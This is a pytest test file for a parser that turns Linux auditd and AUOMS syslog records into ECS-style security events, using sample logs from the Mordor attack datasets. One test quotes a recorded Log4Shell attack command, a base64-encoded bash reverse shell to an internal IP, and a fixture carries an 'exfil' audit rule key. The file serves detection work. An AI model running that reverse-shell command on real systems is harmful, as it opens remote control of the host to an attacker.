"""Linux audit records: raw audit.log grouped one event per audit id, and AUOMS syslog rows."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from maat.errors import InvalidInput
from maat.telemetry.auditd import JSON_SOURCES, TEXT_SOURCES, AuditdText, AuoMsJson
from maat.telemetry.model import finish
from telemetry_kit import MORDOR, needs, sibling

RAW_LOG = MORDOR / "SDLIN-201110074812" / "sh_arp_cache_2020-11-10074812.log"
LOG4SHELL = MORDOR / "compound" / "Log4Shell"
AUOMS_FILE = (
    LOG4SHELL / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"
)
RECEIVED = "2026-11-25T12:00:00.000000Z"
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# A connect() seen with its SOCKADDR (AF_INET 10.0.0.9:443), hex-encoded strings, an enriched
# tail after the GS character and a node= prefix, in the layout auditd 3 writes.
CONNECT = [
    'node=web01 type=SYSCALL msg=audit(1700000000.500:900): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=4242 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="curl" exe="/usr/bin/curl" subj=unconfined key=6E6574776F726B01657866696C\x1dARCH=x86_64 SYSCALL=connect AUID="unset" UID="www-data"',
    "node=web01 type=SOCKADDR msg=audit(1700000000.500:900): saddr=020001BB0A0000090000000000000000",
    "node=web01 type=PROCTITLE msg=audit(1700000000.500:900): proctitle=6375726C002D73002F7372762F6D7920646972",
    "node=web01 type=EOE msg=audit(1700000000.500:900): ",
]
USER_LOGIN = 'type=USER_LOGIN msg=audit(1700000100.000:950): pid=777 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="alice" exe="/usr/sbin/sshd" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=failed\''

SAMPLES: list[dict[str, Any]] = []  # AUOMS rows, filled from the real file when present
if AUOMS_FILE.exists():
    SAMPLES = [orjson.loads(line) for line in AUOMS_FILE.read_bytes().splitlines()[:3]]


def numbered(text: str | list[str]) -> list[tuple[int, bytes]]:
    rows = text if isinstance(text, list) else text.splitlines()
    return [(n, row.encode()) for n, row in enumerate(rows, start=1) if row.strip()]


def parse(rows: str | list[str], source: AuditdText | None = None) -> list[tuple[int, Any, bytes]]:
    return list((source or AuditdText()).parse_lines(numbered(rows)))


def assert_typed(event: dict[str, Any]) -> None:
    for key, value in event.items():
        assert isinstance(value, str | int | float | bool | list), key
        if isinstance(value, list):
            assert all(isinstance(v, str) for v in value), key


@needs(MORDOR)
def test_real_audit_log_gives_one_event_per_audit_id() -> None:
    text = RAW_LOG.read_text()
    ids = list(dict.fromkeys(re.findall(r"msg=audit\(\d+\.\d+:(\d+)\)", text)))
    results = parse(text)
    assert [r[1]["auditd.sequence"] for r in results] == [int(i) for i in ids] == [92733, 92734]
    assert all(isinstance(fields, dict) for _, fields, _ in results)
    assert [first for first, _, _ in results] == [1, 7]
    # The raw event is its six records, as written.
    assert results[0][2] == b"\n".join(RAW_LOG.read_bytes().splitlines()[0:6])


@needs(MORDOR)
def test_real_arp_execution_maps_to_ecs_process_fields() -> None:
    _, event, _ = parse(RAW_LOG.read_text())[0]
    assert_typed(event)
    expected = {
        "@timestamp": "2020-11-10T07:48:16.155000Z",
        "event.action": "execve",
        "event.category": ["process"],
        "event.type": ["start"],
        "event.outcome": "success",
        "process.pid": 1631,
        "process.parent.pid": 29002,
        "process.executable": "/usr/sbin/arp",
        "process.name": "arp",
        "process.args": ["arp", "-a"],
        "process.args_count": 2,
        "process.command_line": "arp -a",
        "process.title": "arp -a",  # from the hex PROCTITLE 617270002D61
        "process.working_directory": "/home/wardog",
        "user.id": "1000",
        "user.audit.id": "1000",
        "auditd.syscall": "execve",
        "auditd.arch": "x86_64",
        "auditd.exit": 0,
        "auditd.session": "104",
        "file.path": "/usr/sbin/arp",
        "auditd.paths": ["/usr/sbin/arp", "/lib64/ld-linux-x86-64.so.2"],
        "auditd.record_types": ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"],
    }
    assert {k: event.get(k) for k in expected} == expected
    assert "auditd.key" not in event  # key=(null) means no rule key
    done = finish(event, module="auditd", raw=b"x", received=RECEIVED)
    assert done["@timestamp"] == "2020-11-10T07:48:16.155000Z"


@needs(MORDOR)
def test_grep_argument_with_caret_is_kept_verbatim() -> None:
    _, event, _ = parse(RAW_LOG.read_text())[1]
    assert event["process.args"] == ["grep", "-v", "^?"]
    assert event["process.command_line"] == "grep -v ^?"


def test_interleaved_records_are_grouped_by_audit_id() -> None:
    rows = [
        'type=SYSCALL msg=audit(1700000000.001:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=10 auid=1000 uid=1000 comm="a" exe="/bin/a"',
        'type=SYSCALL msg=audit(1700000000.002:2): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=20 auid=1000 uid=1000 comm="b" exe="/bin/b"',
        'type=EXECVE msg=audit(1700000000.002:2): argc=2 a0="b" a1="two"',
        'type=EXECVE msg=audit(1700000000.001:1): argc=2 a0="a" a1="one"',
        "type=EOE msg=audit(1700000000.001:1): ",
        "type=EOE msg=audit(1700000000.002:2): ",
    ]
    results = parse(rows)
    assert [(n, e["process.pid"], e["process.args"]) for n, e, _ in results] == [
        (1, 10, ["a", "one"]),
        (2, 20, ["b", "two"]),
    ]
    assert results[0][2].split(b"\n")[1].startswith(b"type=EXECVE msg=audit(1700000000.001:1)")


def test_hex_encoded_values_and_enriched_fields_are_decoded() -> None:
    ((_, event, _),) = parse(CONNECT)
    assert event["host.name"] == "web01"
    assert event["process.args"] == ["curl", "-s", "/srv/my dir"]  # no EXECVE: the proctitle
    assert event["process.command_line"] == "curl -s /srv/my dir"
    assert event["auditd.key"] == "network,exfil"  # two rule keys joined by \x01, hex-encoded
    assert event["auditd.syscall"] == "connect"
    assert event["event.outcome"] == "failure"
    assert event["event.category"] == ["network"]
    assert (event["destination.ip"], event["destination.port"]) == ("10.0.0.9", 443)
    assert "user.audit.id" not in event  # 4294967295: never logged in


def test_hex_encoded_execve_argument_with_space_is_decoded() -> None:
    rows = [
        'type=SYSCALL msg=audit(1700000000.000:5): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=5 auid=0 uid=0 comm=6D792070726F67 exe="/opt/x"',
        'type=EXECVE msg=audit(1700000000.000:5): argc=3 a0="ls" a1=2F7372762F6D7920646972 a2_len=6 a2[0]="abc" a2[1]="def"',
        "type=CWD msg=audit(1700000000.000:5): cwd=2F686F6D652F6D7920757365",
    ]
    ((_, event, _),) = parse(rows)
    assert event["process.name"] == "my prog"
    assert event["process.args"] == ["ls", "/srv/my dir", "abcdef"]
    assert event["process.working_directory"] == "/home/my use"


def test_user_space_login_record_is_an_event_at_once() -> None:
    source = AuditdText()
    produced = source.parse_lines(iter(numbered([USER_LOGIN])))
    _, event, _ = next(produced)
    assert event["user.name"] == "alice"
    assert event["source.ip"] == "10.0.0.5"
    assert event["event.outcome"] == "failure"
    assert event["event.category"] == ["authentication", "session"]
    assert event["process.executable"] == "/usr/sbin/sshd"
    assert event["event.action"] == "user_login"


def test_open_events_stay_bounded_without_eoe_records() -> None:
    source = AuditdText(max_pending=8, max_gap=10_000)
    consumed = 0

    def rows() -> Iterator[tuple[int, bytes]]:
        nonlocal consumed
        for n in range(1, 2001):
            consumed = n
            yield (
                n,
                f'type=SYSCALL msg=audit(1700000000.000:{n}): syscall=59 pid={n} comm="x"'.encode(),
            )

    seen = 0
    for _first, event, _raw in source.parse_lines(rows()):
        assert isinstance(event, dict)
        seen += 1
        assert consumed - seen <= 8  # never more than max_pending events held
    assert seen == 2000


def test_silent_event_is_flushed_after_the_gap() -> None:
    rows = ['type=SYSCALL msg=audit(1700000000.000:1): syscall=59 pid=1 comm="x"']
    rows += [
        f"type=USER_END msg=audit(1700000000.000:{n}): pid={n} msg='res=success'"
        for n in range(2, 40)
    ]
    source = AuditdText(max_gap=5)
    order = [e["auditd.sequence"] for _, e, _ in source.parse_lines(numbered(rows))]
    assert order.index(1) < 10  # left long before the end of input


def test_bad_line_is_reported_and_later_lines_still_parse() -> None:
    rows = [
        "this is not an audit record",
        'type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e syscall=59 pid=abc comm="x"',
        'type=SYSCALL msg=audit(1700000000.000:8): arch=c000003e syscall=59 pid=88 comm="y"',
    ]
    results = parse(rows)
    assert results[0][0] == 1 and "not an audit record" in results[0][1]
    assert results[1][0] == 2 and "'pid'" in results[1][1]
    assert results[2][1]["process.pid"] == 88


@pytest.mark.parametrize(
    ("line", "claimed"),
    [
        (b"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e", True),
        (b"node=h type=DAEMON_START msg=audit(1604994496.155:1): op=start", True),
        (b"#separator \\x09", False),
        (b'{"type": "SYSCALL"}', False),
        (b"<Event><System><EventID>1</EventID></System></Event>", False),
        (b"type=SYSCALL without an audit header", False),
    ],
)
def test_sniff_claims_only_audit_log_lines(line: bytes, claimed: bool) -> None:
    assert TEXT_SOURCES[0].sniff(line) is claimed


@needs(MORDOR)
def test_every_real_auoms_row_parses() -> None:
    rows = [orjson.loads(line) for line in AUOMS_FILE.read_bytes().splitlines()]
    source = JSON_SOURCES[0]
    assert len(rows) == 50
    assert all(source.accepts(r) for r in rows)
    events = [source.normalise(r) for r in rows]
    assert len({e["auditd.sequence"] for e in events}) == 50
    for event in events:
        assert isinstance(event, dict)
        assert_typed(event)
        assert event["host.name"] == "UBUNTU5"
        assert event["event.action"] == "execve"
        assert "process.command_line" in event


@needs(MORDOR)
def test_auoms_reverse_shell_command_line_keeps_its_inner_quotes() -> None:
    rows = [orjson.loads(line) for line in AUOMS_FILE.read_bytes().splitlines()]
    event = AuoMsJson().normalise(rows[5])
    assert isinstance(event, dict)
    expected = {
        "@timestamp": "2022-05-11T18:10:21.990000Z",
        "auditd.sequence": 84143,
        "process.command_line": 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"',
        "process.executable": "/bin/bash",
        "process.name": "bash",
        "process.pid": 17790,
        "process.parent.pid": 1340,
        "user.name": "tomcat",
        "user.id": "1001",
        "group.name": "tomcat",
        "event.outcome": "success",
        "auditd.key": "auoms,delete",
        "file.path": "/bin/bash",
        "auditd.paths": ["/bin/bash", "/lib64/ld-linux-x86-64.so.2"],
        "host.ip": ["192.168.2.5"],
        "event.dataset": "auditd.auoms",
    }
    assert {k: event.get(k) for k in expected} == expected
    assert "user.audit.id" not in event


@needs(MORDOR)
def test_auoms_unquoted_proctitle_with_spaces_is_whole() -> None:
    rows = [orjson.loads(line) for line in AUOMS_FILE.read_bytes().splitlines()]
    event = AuoMsJson().normalise(rows[30])
    assert isinstance(event, dict)
    assert event["process.title"] == "/usr/bin/dpkg -s bash"
    assert event["event.outcome"] == "failure"
    assert event["auditd.exit"] == -2


@needs(MORDOR)
def test_auoms_source_leaves_azure_sysmon_and_windows_rows_alone() -> None:
    source = JSON_SOURCES[0]
    for name in (
        "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
        "sysmon_log4shell_cve2021_44228_java_serialized_object_2022-05-13045800.json",
        "vminsights_vmconnection_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
    ):
        for line in (LOG4SHELL / name).read_bytes().splitlines()[:50]:
            assert not source.accepts(orjson.loads(line)), name


@pytest.mark.parametrize(
    ("record", "field"),
    [
        ({"SyslogMessage": 5}, "SyslogMessage"),
        ({"SyslogMessage": "type=AUOMS_EXECVE no header"}, "SyslogMessage"),
        ({"SyslogMessage": "type=AUOMS_EXECVE audit(1.2:3): pid=x"}, "pid"),
        ({"SyslogMessage": "type=AUOMS_EXECVE audit(999999999999.2:3): pid=1"}, "@timestamp"),
        ({"SyslogMessage": "type=AUOMS_EXECVE audit(1.2:3): exit=no"}, "exit"),
    ],
)
def test_bad_auoms_rows_name_the_field(record: dict[str, Any], field: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        AuoMsJson().normalise(record)
    assert caught.value.location.field == field


FOREIGN = ("test_osquery", "test_falco", "test_zeek", "test_access_log", "test_azure_monitor")


@pytest.mark.parametrize("other", FOREIGN)
def test_auoms_source_claims_no_other_source_sample(other: str) -> None:
    for record in sibling(other).SAMPLES:
        assert not JSON_SOURCES[0].accepts(record), record


def test_auoms_source_claims_no_windows_record() -> None:
    sysmon = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "x"}
    evtx = {"Event": {"System": {"EventID": 1}, "EventData": {"Image": "x"}}}
    assert not JSON_SOURCES[0].accepts(sysmon)
    assert not JSON_SOURCES[0].accepts(evtx)


TOKENS = [*"ab =\",[]'x01\x1d-", "cmdline=", "proctitle=", "pid=", "path_name=[", " redactors="]
# Digits int() takes or chokes on: superscript, Arabic-Indic, more than 4300 of them.
TOKENS += [" syscall=\u00b2", " arch=c000003e", " exit=\u0663", " pid=" + "9" * 5000, " ses=--5"]
messages = st.text(max_size=300) | st.builds(
    lambda parts: "type=AUOMS_EXECVE audit(1652292621.986:84138): " + "".join(parts),
    st.lists(st.sampled_from(TOKENS), max_size=60),
)


@FUZZ
@given(
    messages,
    st.dictionaries(
        st.sampled_from(["Computer", "HostName", "HostIP"]),
        st.none() | st.text(max_size=5) | st.integers(),
    ),
)
def test_auoms_normalise_raises_only_invalid_input(message: str, extra: dict[str, Any]) -> None:
    try:
        event = AuoMsJson().normalise({"SyslogMessage": message, **extra})
    except InvalidInput:
        return
    assert isinstance(event, dict)
    assert_typed(event)


@FUZZ
@given(
    st.lists(
        st.binary(max_size=120)
        | st.builds(
            lambda s: ("type=SYSCALL msg=audit(1.1:1): " + s).encode(), st.text(max_size=80)
        )
        | st.builds(
            lambda parts: ("type=EXECVE msg=audit(1.1:1):" + "".join(parts)).encode(),
            st.lists(st.sampled_from([*TOKENS, " a0=", " a1[0]=", "4142", " argc=9"]), max_size=12),
        ),
        max_size=20,
    )
)
def test_parse_lines_never_raises(rows: list[bytes]) -> None:
    lines = [(n, row) for n, row in enumerate(rows, start=1) if row.strip()]
    for first, result, raw in AuditdText(max_pending=3).parse_lines(lines):
        assert isinstance(first, int) and isinstance(raw, bytes)
        if isinstance(result, dict):
            assert_typed(result)
        else:
            assert isinstance(result, str)


def test_same_serial_from_two_hosts_gives_two_events() -> None:
    rows = [
        'node=a type=SYSCALL msg=audit(1700000000.000:42): syscall=59 pid=1 comm="x"',
        'node=b type=SYSCALL msg=audit(1700000000.000:42): syscall=59 pid=2 comm="y"',
        "node=a type=EOE msg=audit(1700000000.000:42): ",
        "node=b type=EOE msg=audit(1700000000.000:42): ",
    ]
    assert [(e["host.name"], e["process.pid"]) for _, e, _ in parse(rows)] == [("a", 1), ("b", 2)]


def test_end_marker_of_an_event_already_flushed_makes_no_event() -> None:
    rows = ['type=SYSCALL msg=audit(1700000000.000:1): syscall=59 pid=1 comm="x"']
    rows += [
        f"type=USER_END msg=audit(1700000000.000:{n}): pid={n} msg='res=success'"
        for n in range(2, 9)
    ]
    rows += ["type=EOE msg=audit(1700000000.000:1): "]
    results = parse(rows, AuditdText(max_gap=3))
    assert [e["auditd.sequence"] for _, e, _ in results].count(1) == 1
    assert all(e["auditd.record_types"] != ["EOE"] for _, e, _ in results)
